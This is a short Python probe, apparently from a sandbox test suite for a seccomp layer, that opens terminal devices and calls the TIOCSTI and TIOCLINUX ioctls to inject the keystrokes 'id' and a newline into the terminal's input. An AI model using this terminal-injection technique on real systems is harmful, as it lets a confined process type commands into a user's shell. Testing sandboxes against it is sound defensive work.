"""Input for whoever sits at the terminal: TIOCSTI and TIOCLINUX, on every descriptor and on /dev/tty.

layer: seccomp
"""
import fcntl
import os

from tools import attempt, first


def inject(descriptor, number):
    return [fcntl.ioctl(descriptor, number, bytes([letter])) for letter in b"id\n"]


def attack():
    results = [attempt(os.open, path, os.O_RDWR) for path in ("/dev/tty", "/dev/console", "/dev/pts/ptmx")]
    results += [attempt(inject, descriptor, number) for descriptor in range(5) for number in (0x5412, 0x541C)]
    return first(*results)
